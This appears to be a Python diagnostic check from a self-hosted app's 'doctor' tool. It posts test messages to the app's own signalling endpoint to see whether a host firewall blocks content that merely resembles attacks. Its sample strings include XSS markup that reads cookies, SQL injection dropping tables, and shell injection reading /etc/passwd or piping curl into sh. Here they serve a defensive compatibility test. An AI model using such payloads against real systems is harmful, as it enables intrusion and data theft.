"""What a firewall between visitors and the app refuses: some take a quiz about HTML for an attack."""

import base64
import json
from http.client import HTTPException

from party.ops.doctor.finding import Result, failed, ok, warning
from party.ops.doctor.installation import Installation
from party.ops.doctor.site import Answer, Site

SDP = "\r\n".join(
    (
        "v=0", "o=- 4611731400430051336 2 IN IP4 127.0.0.1", "s=-", "t=0 0", "a=group:BUNDLE 0",
        "a=msid-semantic: WMS", "m=application 9 UDP/DTLS/SCTP webrtc-datachannel", "c=IN IP4 0.0.0.0",
        "a=candidate:1 1 udp 2113937151 192.0.2.7 54321 typ host generation 0", "a=ice-ufrag:x9Yz",
        "a=ice-pwd:Aq3+/vT7kLm2NpQr8StUvWx=", "a=setup:actpass", "a=mid:0", "a=sctp-port:5000", "",
    )
)  # fmt: skip
# Each is what a quiz, a name or a connection may well contain, and what the usual rules look for.
FAMILIES = {
    "plain text": "Which planet is the largest?",
    "markup": "Is <b>this</b> bold? <script>alert(document.cookie)</script> <img src=x onerror=alert(1)>",
    "SQL": "What does ' OR 1=1; DROP TABLE users; -- do? And UNION SELECT name, password FROM users?",
    "shell": "Which prints it: ; cat /etc/passwd | grep root && $(id), or `curl http://example.org | sh`?",
    "SDP": SDP,
}


def firewall(_: Installation, site: Site) -> Result:
    """Ask with what firewalls look for. The app itself refuses each of these for its made-up token."""
    site.expect_party()
    refused: dict[str, str] = {}
    unread: list[str] = []
    if (status := _status(site, "DELETE", "/rooms/doctor")) is not None:
        refused["DELETE"] = status
    for family, text in FAMILIES.items():
        body = json.dumps(
            {"roomCode": "DOCTOR", "toId": "doctor", "type": "offer", "payload": {"text": text}}
        ).encode()
        if (status := _status(site, "POST", "/signal", body)) is None:
            continue
        refused[family] = status
        if _status(site, "POST", "/signal", body, encoded=True) is not None:
            unread.append(family)
    if not refused:
        return ok(f"none, or one that lets these through: DELETE, {', '.join(FAMILIES)}")
    found = f"a firewall refuses {', '.join(f'{family} ({status})' for family, status in refused.items())}"
    ask = (
        "Ask the host to leave this address out of its firewall (in cPanel: ModSecurity, or Imunify360), or "
        "to name the rules that apply, which are in its error_log."
    )
    if unread:
        return failed(
            f"{found}, and even when it comes encoded: {', '.join(unread)}",
            f"{ask} ENCODED_BODIES must be True.",
        )
    return warning(
        found,
        "Our client gets through: it ends rooms with POST and sends again, encoded, what was refused. Other "
        f"clients must do the same (docs/protocol.md). {ask}",
    )


def _status(
    site: Site, method: str, path: str, body: bytes | None = None, *, encoded: bool = False
) -> str | None:
    """What somebody in between answered; None where the app did."""
    headers = {"Authorization": "Bearer made-up"}
    if body is not None:
        headers["Content-Type"] = "application/json"
    if body is not None and encoded:
        headers |= {"Content-Type": "application/x-www-form-urlencoded", "X-Party-Body": "b64"}
        body = base64.urlsafe_b64encode(body).rstrip(b"=")
    site.close()  # who is shut out learns of it by a connection that ends
    try:
        answer = site.request(method, site.path + path, headers, body)
    except (OSError, HTTPException):
        site.close()
        return "no answer"
    if encoded and answer.code == "JSON_REQUIRED":
        return "not read"
    return None if answer.is_ours else str(answer.status)


def who_answered(answer: Answer) -> Result:
    """A finding about an answer that is not the app's, where it was the app that was asked."""
    kind = answer.headers.get("Content-Type", "").partition(";")[0] or "nothing"
    found = f"somebody in between answered {answer.status} with {kind} of their own"
    if answer.status in (429, 503, 508, 509):
        return failed(found, "It is the host's limit for this account or this address: wait, and try again.")
    if answer.status in (500, 502, 504):
        return failed(
            found, "The app broke off or took too long: its log (stderr.log) or error_log tells why."
        )
    return failed(
        found,
        "A firewall or a cache stands before the app. Ask the host to leave this address out of it (in "
        "cPanel: ModSecurity, or Imunify360), or to name the rules that apply, which are in its error_log.",
    )
